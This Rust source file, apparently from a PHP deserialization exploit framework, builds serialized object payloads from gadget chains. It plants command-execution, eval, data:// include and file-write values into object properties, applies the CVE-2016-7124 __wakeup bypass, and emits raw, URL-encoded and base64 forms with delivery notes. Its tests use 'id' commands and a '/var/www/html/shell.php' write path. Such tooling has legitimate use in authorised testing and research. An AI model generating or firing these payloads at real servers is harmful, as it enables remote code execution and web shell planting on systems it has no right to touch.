//! Turns a chain into a serialized object graph.

use base64::{engine::general_purpose, Engine as _};
use ir::Literal;
use serde::Serialize;
use std::collections::HashSet;
use tracing::debug;

use crate::catalog::SinkValue;
use crate::chain::{Chain, Delivery, SlotAssignment, SlotValue};
use crate::error::PayloadError;
use crate::model::{Catalogue, ClassEntity, GuardValue, PropertyEntity};
use crate::options::PayloadOptions;
use crate::serialize::{encode_property_key, inflate_property_counts, parse_serialized, serialize, PhpObject, PhpValue};

const WAKEUP_BYPASS_VERSIONS: &str = "PHP 5 before 5.6.25 and PHP 7 before 7.0.10";

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct SerializedPayload {
    /// What `unserialize()` must receive.
    pub raw: String,
    pub url_encoded: String,
    pub base64: String,
    /// Human-readable notes on bypasses and delivery.
    pub bypass_notes: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub delivery: Option<Delivery>,
    #[serde(skip)]
    pub object: PhpValue,
}

impl SerializedPayload {
    /// The form to send to the vulnerable parameter.
    pub fn delivered(&self) -> &str {
        match &self.delivery {
            Some(d) if d.base64 => &self.base64,
            _ => &self.raw,
        }
    }
}

/// Builds the payload for `chain` and checks it by re-parsing the result.
pub fn synthesize_payload(
    chain: &Chain,
    catalogue: &Catalogue,
    opts: &PayloadOptions,
) -> Result<SerializedPayload, PayloadError> {
    if chain.steps.is_empty() {
        return Err(PayloadError::EmptyChain);
    }
    let classes = chain
        .steps
        .iter()
        .map(|s| {
            catalogue
                .get(&s.class)
                .ok_or_else(|| PayloadError::UnknownClass(s.class.clone()))
        })
        .collect::<Result<Vec<_>, _>>()?;

    // Holders always sit on an earlier step, so building back to front
    // makes every nested object available when its holder is filled.
    let mut built: Vec<Option<PhpObject>> = vec![None; chain.steps.len()];
    for step in (0..chain.steps.len()).rev() {
        let class = classes[step];
        let declaring = catalogue
            .resolve_method(class, &chain.steps[step].method)
            .map(|(c, _)| c.qualified_name());
        let mut object = initial_object(catalogue, class);
        for assignment in chain.assignments.iter().filter(|a| a.step == step) {
            let value = match &assignment.value {
                SlotValue::Object(i) => match built.get_mut(*i).and_then(Option::take) {
                    Some(nested) => PhpValue::Object(nested),
                    None => continue,
                },
                SlotValue::PivotMethod => PhpValue::Str(opts.pivot_method.clone()),
                SlotValue::Sink(v) => sink_value(*v, opts),
                SlotValue::Guard(v) => guard_value(v),
            };
            let key = property_key(catalogue, class, declaring.as_deref(), assignment);
            object.set(&key, value);
        }
        built[step] = Some(object);
    }
    let root = built
        .into_iter()
        .next()
        .flatten()
        .ok_or(PayloadError::EmptyChain)?;
    let object = PhpValue::Object(root);

    let serialized = serialize(&object);
    let bypass: Vec<String> = if chain.requires_wakeup_bypass {
        chain.bypass_classes.iter().map(|c| serialized_class(c)).collect()
    } else {
        Vec::new()
    };
    let raw = if bypass.is_empty() {
        serialized.text.clone()
    } else {
        inflate_property_counts(&serialized, &bypass)
    };
    verify(&raw, &bypass)?;

    let payload = SerializedPayload {
        url_encoded: url_encode(&raw),
        base64: general_purpose::STANDARD.encode(raw.as_bytes()),
        bypass_notes: notes(chain, &bypass),
        delivery: chain.delivery.clone(),
        raw,
        object,
    };
    debug!(chain = %chain.id, bytes = payload.raw.len(), "Synthesized payload");
    Ok(payload)
}

/// Every property an instance carries, set to its declared default.
fn initial_object(catalogue: &Catalogue, class: &ClassEntity) -> PhpObject {
    let mut object = PhpObject::new(serialized_class(&class.qualified_name()));
    for prop in catalogue.all_properties(class) {
        object.set(&prop.serialized_key(), literal_value(prop.default.as_ref()));
    }
    object
}

fn guard_value(value: &GuardValue) -> PhpValue {
    match value {
        GuardValue::Null => PhpValue::Null,
        GuardValue::Bool(b) => PhpValue::Bool(*b),
        GuardValue::Int(i) => PhpValue::Int(*i),
        GuardValue::Str(s) => PhpValue::Str(s.clone()),
    }
}

fn literal_value(lit: Option<&Literal>) -> PhpValue {
    match lit {
        None | Some(Literal::Null) => PhpValue::Null,
        Some(Literal::Bool(b)) => PhpValue::Bool(*b),
        Some(Literal::Int(i)) => PhpValue::Int(*i),
        Some(Literal::Float(f)) => PhpValue::Float(*f),
        Some(Literal::Str(s)) => PhpValue::Str(s.clone()),
    }
}

/// Key for an assigned property. Private properties of the class that
/// declares the step's method win over same-named ones elsewhere in the
/// hierarchy; unknown names become dynamic public properties.
fn property_key(
    catalogue: &Catalogue,
    class: &ClassEntity,
    declaring: Option<&str>,
    assignment: &SlotAssignment,
) -> String {
    let props = catalogue.all_properties(class);
    let matching: Vec<&&PropertyEntity> = props
        .iter()
        .filter(|p| p.name == assignment.property)
        .collect();
    let chosen = matching
        .iter()
        .find(|p| declaring.is_some_and(|d| p.declared_in.eq_ignore_ascii_case(d)))
        .or_else(|| matching.last());
    match chosen {
        Some(p) => p.serialized_key(),
        None => encode_property_key(ir::Visibility::Public, &class.name, &assignment.property),
    }
}

fn sink_value(value: SinkValue, opts: &PayloadOptions) -> PhpValue {
    match value {
        SinkValue::Command => PhpValue::Str(opts.command.clone()),
        SinkValue::PhpCode => PhpValue::Str(opts.php_code.clone()),
        SinkValue::Callback => PhpValue::Str(opts.callback.clone()),
        SinkValue::CommandList => PhpValue::Array(vec![(
            PhpValue::Int(0),
            PhpValue::Str(opts.command.clone()),
        )]),
        SinkValue::WritePath => PhpValue::Str(opts.write_path.clone()),
        SinkValue::WriteContent => PhpValue::Str(opts.write_content.clone()),
        SinkValue::ReadPath => PhpValue::Str(opts.read_path.clone()),
        SinkValue::IncludeUri => {
            let code = format!("<?php {} ?>", opts.php_code);
            PhpValue::Str(format!(
                "data://text/plain;base64,{}",
                general_purpose::STANDARD.encode(code.as_bytes())
            ))
        }
        SinkValue::EvalPattern => PhpValue::Str("/.*/e".into()),
    }
}

fn serialized_class(name: &str) -> String {
    name.trim_start_matches('\\').to_string()
}

/// Re-parses the payload: every object must declare exactly its written
/// property count, plus one for the classes whose `__wakeup` is bypassed.
fn verify(raw: &str, bypass: &[String]) -> Result<(), PayloadError> {
    for header in parse_serialized(raw)? {
        let inflated = bypass.iter().any(|c| c.eq_ignore_ascii_case(&header.class));
        let expected = header.actual + usize::from(inflated);
        if header.declared != expected {
            return Err(PayloadError::RoundTrip {
                class: header.class,
                declared: header.declared,
                expected,
            });
        }
    }
    Ok(())
}

fn notes(chain: &Chain, bypass: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    let mut seen = HashSet::new();
    for class in bypass.iter().filter(|c| seen.insert(c.to_ascii_lowercase())) {
        out.push(format!(
            "{class}::__wakeup is skipped by declaring one property more than the object carries \
             (CVE-2016-7124, {WAKEUP_BYPASS_VERSIONS})"
        ));
    }
    for assignment in &chain.assignments {
        let (SlotValue::Guard(value), Some(step)) = (&assignment.value, chain.steps.get(assignment.step)) else {
            continue;
        };
        out.push(format!(
            "{}::${} is set to {value} to pass the check guarding {}",
            step.class, assignment.property, chain.sink.function
        ));
    }
    if chain.entry_method == crate::model::MagicKind::Wakeup {
        out.push(format!(
            "entry runs in {}::__wakeup; do not apply the property-count bypass to it",
            chain.entry_class
        ));
    }
    if let Some(delivery) = &chain.delivery {
        let target = match &delivery.param_name {
            Some(p) => format!("request parameter `{p}` ({})", delivery.source),
            None => format!("input `{}`", delivery.source),
        };
        out.push(format!(
            "deliver through {target} to unserialize() at {}:{}",
            delivery.file_id, delivery.location.line
        ));
        if delivery.base64 {
            out.push("the input is passed through base64_decode: send the base64 form".into());
        }
        for wrapper in delivery.wrappers.iter().filter(|w| *w != "base64_decode") {
            out.push(format!("the input is passed through {wrapper}: encode the payload to match"));
        }
    }
    out
}

/// `urlencode()`: alphanumerics and `-_.` pass, space becomes `+`, every
/// other byte is percent-encoded.
pub fn url_encode(input: &str) -> String {
    let mut out = String::with_capacity(input.len() * 3);
    for &b in input.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => out.push(b as char),
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::{ChainKind, ChainStep, SinkRef};
    use crate::catalog::SinkTier;
    use crate::model::{GadgetMethod, MagicKind};
    use crate::triggers::Confidence;
    use crate::{extract_classes, SourceUnit};
    use ir::Location;

    fn catalogue(src: &str) -> Catalogue {
        let unit = SourceUnit {
            file_id: "t.php".into(),
            ast: parsers::parse_php(src, "t.php").unwrap(),
        };
        Catalogue::new(extract_classes(&unit).classes)
    }

    fn step(class: &str, method: GadgetMethod) -> ChainStep {
        ChainStep {
            class: class.into(),
            method,
            trigger: String::new(),
            holder: None,
            file_id: "t.php".into(),
            location: Location::default(),
        }
    }

    fn chain(steps: Vec<ChainStep>, assignments: Vec<SlotAssignment>) -> Chain {
        Chain {
            id: "c".into(),
            entry_class: steps.first().map(|s| s.class.clone()).unwrap_or_default(),
            entry_method: MagicKind::Destruct,
            kind: ChainKind::Gadget,
            steps,
            edges: Vec::new(),
            sink: SinkRef {
                function: "system".into(),
                tier: SinkTier::CommandExec,
                step: 0,
                class: String::new(),
                method: String::new(),
                controlled: true,
                location: Location::default(),
            },
            assignments,
            exploitability: 90,
            requires_wakeup_bypass: false,
            bypass_classes: Vec::new(),
            confidence: Confidence::High,
            delivery: None,
        }
    }

    fn set(step: usize, property: &str, value: SlotValue) -> SlotAssignment {
        SlotAssignment {
            step,
            property: property.into(),
            value,
        }
    }

    #[test]
    fn nests_objects_and_plants_sink_values() {
        let cat = catalogue(
            r#"<?php
            class Entry { protected $h; public $label = 'x'; function __destruct() { echo $this->h; } }
            class Runner { private $cmd; function __toString() { system($this->cmd); return ''; } }
            "#,
        );
        let c = chain(
            vec![
                step("Entry", GadgetMethod::Magic(MagicKind::Destruct)),
                step("Runner", GadgetMethod::Magic(MagicKind::ToString)),
            ],
            vec![
                set(0, "h", SlotValue::Object(1)),
                set(1, "cmd", SlotValue::Sink(SinkValue::Command)),
            ],
        );
        let payload = synthesize_payload(&c, &cat, &PayloadOptions::default()).unwrap();
        assert_eq!(
            payload.raw,
            "O:5:\"Entry\":2:{s:4:\"\0*\0h\";O:6:\"Runner\":1:{s:11:\"\0Runner\0cmd\";s:2:\"id\";}s:5:\"label\";s:1:\"x\";}"
        );
        assert_eq!(
            general_purpose::STANDARD.decode(&payload.base64).unwrap(),
            payload.raw.as_bytes()
        );
        assert!(payload.url_encoded.starts_with("O%3A5%3A%22Entry%22%3A2%3A%7Bs%3A4%3A%22%00%2A%00h"));
        assert!(payload.bypass_notes.is_empty());
    }

    #[test]
    fn bypass_inflates_only_guarded_classes() {
        let cat = catalogue(
            r#"<?php
            class Guarded { public $cmd; function __wakeup() { $this->cmd = null; }
                function __destruct() { system($this->cmd); } }
            "#,
        );
        let mut c = chain(
            vec![step("Guarded", GadgetMethod::Magic(MagicKind::Destruct))],
            vec![set(0, "cmd", SlotValue::Sink(SinkValue::Command))],
        );
        c.requires_wakeup_bypass = true;
        c.bypass_classes = vec!["Guarded".into()];
        let payload = synthesize_payload(&c, &cat, &PayloadOptions::default()).unwrap();
        assert_eq!(payload.raw, "O:7:\"Guarded\":2:{s:3:\"cmd\";s:2:\"id\";}");
        let headers = parse_serialized(&payload.raw).unwrap();
        assert_eq!(headers[0].declared, headers[0].actual + 1);
        assert!(payload.bypass_notes[0].contains("CVE-2016-7124"));
    }

    #[test]
    fn guard_literals_keep_their_type() {
        let cat = catalogue(
            r#"<?php
            class Gate { private $role = 'guest'; public $level;
                function __destruct() { if ($this->role === 'admin' && $this->level == 3) { echo $flag; } } }
            "#,
        );
        let mut c = chain(
            vec![step("Gate", GadgetMethod::Magic(MagicKind::Destruct))],
            vec![
                set(0, "role", SlotValue::Guard(GuardValue::Str("admin".into()))),
                set(0, "level", SlotValue::Guard(GuardValue::Int(3))),
            ],
        );
        c.kind = ChainKind::PropertyInjection;
        c.sink.function = "echo".into();
        let payload = synthesize_payload(&c, &cat, &PayloadOptions::default()).unwrap();
        assert_eq!(
            payload.raw,
            "O:4:\"Gate\":2:{s:10:\"\0Gate\0role\";s:5:\"admin\";s:5:\"level\";i:3;}"
        );
        assert!(payload.bypass_notes[0].contains("Gate::$role is set to 'admin'"));
    }

    #[test]
    fn inherited_private_keeps_declaring_class() {
        let cat = catalogue(
            r#"<?php
            namespace App;
            class Base { private $path; function __destruct() { unlink($this->path); } }
            class Child extends Base { private $path = 'own'; }
            "#,
        );
        let c = chain(
            vec![step("App\\Child", GadgetMethod::Magic(MagicKind::Destruct))],
            vec![set(0, "path", SlotValue::Sink(SinkValue::WritePath))],
        );
        let payload = synthesize_payload(&c, &cat, &PayloadOptions::default()).unwrap();
        let PhpValue::Object(obj) = &payload.object else {
            panic!("expected an object");
        };
        assert_eq!(obj.class, "App\\Child");
        assert_eq!(
            obj.get("\0App\\Base\0path"),
            Some(&PhpValue::Str("/var/www/html/shell.php".into()))
        );
        assert_eq!(obj.get("\0App\\Child\0path"), Some(&PhpValue::Str("own".into())));
    }

    #[test]
    fn include_and_pivot_values() {
        let opts = PayloadOptions::default();
        let PhpValue::Str(uri) = sink_value(SinkValue::IncludeUri, &opts) else {
            panic!("expected a string");
        };
        let encoded = uri.strip_prefix("data://text/plain;base64,").unwrap();
        let code = general_purpose::STANDARD.decode(encoded).unwrap();
        assert_eq!(code, b"<?php system('id'); ?>");
        assert_eq!(
            sink_value(SinkValue::CommandList, &opts),
            PhpValue::Array(vec![(PhpValue::Int(0), PhpValue::Str("id".into()))])
        );
    }

    #[test]
    fn errors_are_reported() {
        let cat = catalogue("<?php class A {}");
        let empty = chain(Vec::new(), Vec::new());
        assert_eq!(
            synthesize_payload(&empty, &cat, &PayloadOptions::default()),
            Err(PayloadError::EmptyChain)
        );
        let unknown = chain(vec![step("Nope", GadgetMethod::Magic(MagicKind::Destruct))], Vec::new());
        assert_eq!(
            synthesize_payload(&unknown, &cat, &PayloadOptions::default()),
            Err(PayloadError::UnknownClass("Nope".into()))
        );
    }

    #[test]
    fn url_encoding_matches_php() {
        assert_eq!(url_encode("a b-c_d.e~"), "a+b-c_d.e%7E");
        assert_eq!(url_encode("\0*\0"), "%00%2A%00");
        assert_eq!(url_encode("é"), "%C3%A9");
    }
}
